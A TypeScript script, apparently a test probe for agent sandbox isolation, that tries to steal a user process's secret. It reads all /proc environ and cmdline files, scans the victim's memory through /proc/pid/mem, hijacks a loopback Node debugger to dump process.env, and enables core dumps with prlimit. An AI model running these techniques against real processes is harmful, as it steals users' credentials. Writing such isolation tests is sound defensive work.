/**
 * What a tool of the agent could do to get at the secret of a process of its own user. Prints what it got, a line each.
 *
 * Arguments: the attack, and the process id of the victim.
 */

import { execFileSync } from 'node:child_process';
import { closeSync, openSync, readdirSync, readFileSync, readSync } from 'node:fs';

/** Of a secret only the form is known to it. */
const secretForm = /holder-secret-[0-9a-f]{32}/g;

const [attack, victim] = process.argv.slice(2);
const attacks: Record<string, () => Promise<string> | string> = {
  environment: () => allOf('environ'),
  command_line: () => allOf('cmdline'),
  memory: readMemory,
  debugger: askDebugger,
  core_dump: () => {
    execFileSync('prlimit', ['--core=unlimited', '--pid', String(victim)], { stdio: 'ignore' });
    return '';
  },
};
const loot = await attacks[attack ?? '']?.();
for (const secret of new Set(loot?.match(secretForm))) process.stdout.write(`${secret}\n`);

function allOf(file: string): string {
  return readdirSync('/proc')
    .filter((name) => /^\d+$/.test(name))
    .map((pid) => attempt(() => readFileSync(`/proc/${pid}/${file}`, 'latin1')))
    .join('\n');
}

function readMemory(): string {
  const memory = openSync(`/proc/${victim}/mem`, 'r');
  const maps = readFileSync(`/proc/${victim}/maps`, 'latin1').split('\n');
  const chunk = Buffer.alloc(1 << 20);
  let found = '';
  for (const map of maps) {
    const [, from = '', to = ''] = /^([0-9a-f]+)-([0-9a-f]+) rw/.exec(map) ?? [];
    const end = Number.parseInt(to, 16);
    for (let at = Number.parseInt(from, 16); at < end; at += chunk.length)
      found += attempt(() => {
        const length = readSync(memory, chunk, 0, Math.min(chunk.length, end - at), at);
        const read = chunk.subarray(0, length);
        return read.includes('holder-secret-') ? read.toString('latin1') : '';
      });
  }
  closeSync(memory);
  return found;
}

/** Finds the victim's debugger among all that listens on loopback, as anybody may. */
async function askDebugger(): Promise<string> {
  const listening = readFileSync('/proc/net/tcp', 'latin1').matchAll(/ 0100007F:([0-9A-F]{4}) [0-9A-F:]+ 0A /g);
  for (const [, port = ''] of listening) {
    const list = await fetch(`http://127.0.0.1:${Number.parseInt(port, 16)}/json/list`, {
      signal: AbortSignal.timeout(5_000),
    }).then(
      (response) => response.text(),
      () => '',
    );
    const url = /"webSocketDebuggerUrl": "([^"]+)"/.exec(list)?.[1];
    const answer = url === undefined ? '' : await evaluate(url, 'process.pid + JSON.stringify(process.env)');
    if (answer.includes(`"${victim}{`)) return answer;
  }
  return '';
}

async function evaluate(url: string, expression: string): Promise<string> {
  const socket = new WebSocket(url);
  const answer = Promise.withResolvers<string>();
  socket.addEventListener('open', () =>
    socket.send(JSON.stringify({ id: 1, method: 'Runtime.evaluate', params: { expression } })),
  );
  socket.addEventListener('message', ({ data }) => answer.resolve(String(data)));
  socket.addEventListener('error', () => answer.resolve(''));
  const text = await answer.promise;
  socket.close();
  return text;
}

function attempt(read: () => string): string {
  try {
    return read();
  } catch {
    return '';
  }
}
